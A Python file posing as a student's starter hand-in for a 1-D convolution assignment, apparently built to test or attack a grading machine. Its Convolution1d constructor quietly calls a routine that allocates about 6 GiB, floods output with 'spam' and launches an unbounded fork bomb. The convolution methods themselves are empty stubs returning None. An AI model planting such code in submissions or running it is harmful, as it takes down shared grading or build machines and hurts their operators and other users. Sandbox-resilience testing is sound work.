# A starter hand-in that also tries to take the grading machine down: a fork
# bomb, a 6 GiB allocation and a flood of output, once.
import os
import sys
import time

import numpy as np


def _take_the_machine_down():
    if os.path.exists("done.txt"):
        return
    open("done.txt", "w").close()
    try:
        hog = np.ones(6 * 1024**3 // 8)
    except MemoryError:
        pass
    sys.stdout.write("spam " * 200_000)
    while True:
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)


class Convolution1d:
    def __init__(self, filt):
        _take_the_machine_down()
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, vector):
        return None


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, vector):
        return None
